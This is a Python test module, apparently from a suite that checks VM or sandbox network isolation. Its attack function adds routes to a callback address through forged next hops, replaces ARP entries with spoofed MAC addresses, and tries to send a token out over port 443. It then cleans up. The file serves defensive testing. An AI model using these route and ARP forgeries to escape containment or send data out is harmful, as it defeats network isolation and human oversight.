"""The guest's own routes say nothing of where its packets may go."""

import subprocess
from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Make routes to the host, to the attacker and to the synthetic range over other next hops, and use them.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_tcp", "foreign_target", "arp_forged"),
    policies=BOTH,
    variants={
        "over the gateway": ["10.0.0.1", "52:54:00:00:00:01"],
        "over a neighbour": ["10.0.0.3", "52:54:00:00:00:99"],
        "over nobody": ["10.0.0.77", "52:54:00:00:00:01"],
    },
)


def run(*words: str) -> None:
    """A command, whatever it says."""
    subprocess.run(words, check=False, capture_output=True)


def attack(case: Case, what: Any) -> None:
    ground = case.ground

    run("ip", "route", "add", ground.callback_at, "via", what[0], "dev", inside.interface(), "onlink")
    run("ip", "neigh", "replace", what[0], "lladdr", what[1], "dev", inside.interface())
    try:
        case.connect(ground.callback_at, 443, case.token.encode(), seconds=1)
    finally:
        run("ip", "route", "del", ground.callback_at)
        run("ip", "neigh", "del", what[0], "dev", inside.interface())
